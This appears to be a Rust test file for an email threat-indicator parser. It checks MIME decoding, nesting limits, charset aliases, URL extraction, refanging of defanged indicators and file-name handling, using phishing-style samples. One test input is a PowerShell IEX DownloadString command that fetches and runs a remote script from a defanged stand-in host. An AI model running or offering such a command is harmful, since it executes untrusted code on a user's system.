//! Cases BR-11, BR-13, BR-14, BR-15, BR-16 and BR-18 of `../shared/cases/CASES.md`, each at the
//! level where the fault lives (a raw message, or a text for the extractor), with the exact
//! expected outputs from the case.

use threatmail_parse::{IndicatorKind, ParsedMessage, WarningKind, extract_text, parse_message};

fn urls(parsed: &ParsedMessage) -> Vec<String> {
    parsed.summary().urls
}

/// Runs `f` on a thread with a 2 MiB stack, the size of a test thread, so a recursion that
/// scales with the input would overflow here.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(f)
        .expect("spawn")
        .join()
        .expect("no panic or overflow")
}

#[test]
fn br11_transfer_encoding_with_trailing_space_is_decoded() {
    for cte in ["base64 ", "BASE64", "Base64\t", " base64"] {
        let raw = format!(
            "From: \"IT Helpdesk\" <helpdesk@example.com>\r\nTo: victim@example.org\r\nSubject: Password expiry\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {cte}\r\n\r\naHR0cHM6Ly9sb2dpbi5leGFtcGxlLm9yZy9yZXNldA==\r\n"
        );
        let parsed = parse_message(raw.as_bytes());
        let body = &parsed.message.text_bodies[0].text;
        assert_eq!(
            body.trim_end(),
            "https://login.example.org/reset",
            "CTE {cte:?}"
        );
        assert_eq!(
            urls(&parsed),
            ["https://login.example.org/reset"],
            "CTE {cte:?}"
        );
    }
}

/// The BR-13 generator, byte for byte.
fn deep(d: usize) -> Vec<u8> {
    let mut s = String::from("From: a@example.com\r\nSubject: deep\r\nMIME-Version: 1.0\r\n");
    for i in 0..d {
        s += &format!("Content-Type: multipart/mixed; boundary=\"b{i}x\"\r\n\r\n--b{i}x\r\n");
    }
    s += "Content-Type: text/plain\r\n\r\nhttps://deep.example.org/landing\r\n";
    for i in (0..d).rev() {
        s += &format!("--b{i}x--\r\n");
    }
    s.into_bytes()
}

#[test]
fn br13_deep_multipart_nesting_is_flagged_and_still_yields_the_url() {
    for d in [500, 10_000] {
        let parsed = on_small_stack(move || parse_message(&deep(d)));
        assert!(
            parsed
                .warnings
                .iter()
                .any(|w| w.kind == WarningKind::NestingLimitExceeded
                    && w.detail.contains("MIME nesting limit exceeded")),
            "D={d}: {:?}",
            parsed.warnings
        );
        assert_eq!(urls(&parsed), ["https://deep.example.org/landing"], "D={d}");
    }
}

#[test]
fn br13_shape_at_depth_two_parses_normally() {
    let parsed = parse_message(&deep(2));
    assert!(parsed.warnings.is_empty(), "{:?}", parsed.warnings);
    assert_eq!(
        parsed.structure,
        "multipart/mixed(multipart/mixed(text/plain))"
    );
    assert_eq!(urls(&parsed), ["https://deep.example.org/landing"]);
}

#[test]
fn br14_aliased_charset_decodes() {
    let raw = b"From: a@example.com\r\nSubject: notice\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=ks_c_5601-1987\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=BE=C8=B3=E7 https://kr-login.example.com/\r\n";
    let parsed = parse_message(raw);
    assert_eq!(
        parsed.message.text_bodies[0].text.trim_end(),
        "안녕 https://kr-login.example.com/"
    );
    assert_eq!(urls(&parsed), ["https://kr-login.example.com/"]);
    assert!(parsed.warnings.is_empty(), "{:?}", parsed.warnings);
}

#[test]
fn br14_labels_resolve_to_whatwg_encodings() {
    // Each label's body is the WHATWG encoding of "café"/"日本"; decoding proves the label was
    // resolved (an unresolved label would decode as UTF-8 or Latin-1 and be flagged).
    let cases: &[(&str, &[u8], &str)] = &[
        ("cp1252", b"caf\xE9", "café"),
        ("x-sjis", b"\x93\xfa\x96\x7b", "日本"),
        ("ms932", b"\x93\xfa\x96\x7b", "日本"),
        ("windows-31j", b"\x93\xfa\x96\x7b", "日本"),
        ("x-gbk", b"\xc8\xd5\xb1\xbe", "日本"),
        ("cn-big5", b"\xa4\xe9\xa5\xbb", "日本"),
        ("ksc5601", b"\xbe\xc8\xb3\xe7", "안녕"),
        ("unicode-1-1-utf-8", "café".as_bytes(), "café"),
    ];
    for (label, body, expected) in cases {
        let mut raw = format!(
            "From: a@example.com\r\nSubject: notice\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset={label}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        )
        .into_bytes();
        raw.extend_from_slice(body);
        raw.extend_from_slice(b" https://pay.example.net/x\r\n");
        let parsed = parse_message(&raw);
        let text = &parsed.message.text_bodies[0].text;
        assert!(text.starts_with(expected), "{label}: {text:?}");
        assert!(
            !parsed
                .warnings
                .iter()
                .any(|w| w.kind == WarningKind::UnknownCharset),
            "{label}"
        );
    }
}

#[test]
fn br14_unknown_charset_is_kept_flagged_and_scanned() {
    let raw = b"From: a@example.com\r\nSubject: notice\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=\"x-unknown-8bit\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\ncaf=E9 https://pay.example.net/x\r\n";
    let parsed = parse_message(raw);
    assert_eq!(
        parsed.message.text_bodies[0].text.trim_end(),
        "café https://pay.example.net/x"
    );
    assert!(
        parsed
            .warnings
            .iter()
            .any(|w| w.kind == WarningKind::UnknownCharset && w.detail.contains("unknown charset")),
        "{:?}",
        parsed.warnings
    );
    assert_eq!(urls(&parsed), ["https://pay.example.net/x"]);
}

#[test]
fn br15_url_boundaries() {
    let text = "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://cdn-update.example[.]com/a.ps1');\"\nReset here (https://portal.example.net/reset/), then reply.\nurl,https://files.example.org/d/abc123,Credential phish\nSee <https://track.example.com/x?id=42>.\nBackground: https://wiki.example.org/wiki/Lure_(phishing) is the reference.\n";
    let found = extract_text(text);
    let mut expected = vec![
        "https://cdn-update.example.com/a.ps1",
        "https://portal.example.net/reset/",
        "https://files.example.org/d/abc123",
        "https://track.example.com/x?id=42",
        "https://wiki.example.org/wiki/Lure_(phishing)",
    ];
    expected.sort_unstable();
    assert_eq!(found.values(IndicatorKind::Url), expected);
}

#[test]
fn br16_defang_variants_keep_the_scheme() {
    let text = "hxxps://login-portal[.]example[.]com/auth\nhXXps[:]//secure[.]example[.]net/verify\nhttps[:]//docs[.]example[.]org/s/abc\nhxxp://203.0.113[.]7/gate.php\n";
    let found = extract_text(text);
    assert_eq!(
        found.values(IndicatorKind::Url),
        [
            "http://203.0.113.7/gate.php",
            "https://docs.example.org/s/abc",
            "https://login-portal.example.com/auth",
            "https://secure.example.net/verify",
        ]
    );
    assert_eq!(
        found.values(IndicatorKind::Domain),
        [
            "docs.example.org",
            "login-portal.example.com",
            "secure.example.net"
        ]
    );
    assert_eq!(found.values(IndicatorKind::Ipv4), ["203.0.113.7"]);
    // Each IOC once, keyed by its refanged form, and flagged as written defanged.
    assert_eq!(found.indicators.len(), 8);
    assert!(found.indicators.iter().all(|i| i.defanged));
}

#[test]
fn br18_file_names_and_av_names_are_not_domains() {
    let text = "Open the attached q3-statement.zip, then run update.py (see notes.md).\nMirror: https://docs-share.zip/get\nAlso seen: payroll-update[.]zip\nAV verdict: W32/Agent.CA!tr\n";
    let found = extract_text(text);
    assert_eq!(
        found.values(IndicatorKind::Domain),
        ["docs-share.zip", "payroll-update.zip"]
    );
    let mut names = found.file_names.clone();
    names.sort();
    assert_eq!(names, ["notes.md", "q3-statement.zip", "update.py"]);
    assert_eq!(
        found.values(IndicatorKind::Url),
        ["https://docs-share.zip/get"]
    );
    for trap in ["agent.ca", "q3-statement.zip", "update.py", "notes.md"] {
        assert!(
            !found.values(IndicatorKind::Domain).contains(&trap),
            "{trap}"
        );
    }
}

#[test]
fn br18_attachment_names_are_file_names_never_domains() {
    let raw = b"From: a@example.com\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b\r\nContent-Type: application/zip; name=\"invoice.zip\"\r\nContent-Disposition: attachment; filename=\"invoice.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\nUEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==\r\n--b\r\nContent-Type: text/x-python; name=\"update.py\"\r\n\r\nprint('hi')\r\n--b--\r\n";
    let parsed = parse_message(raw);
    let summary = parsed.summary();
    assert_eq!(summary.file_names, ["invoice.zip", "update.py"]);
    assert!(summary.domains.is_empty(), "{:?}", summary.domains);
    assert_eq!(summary.attachments.len(), 2);
}
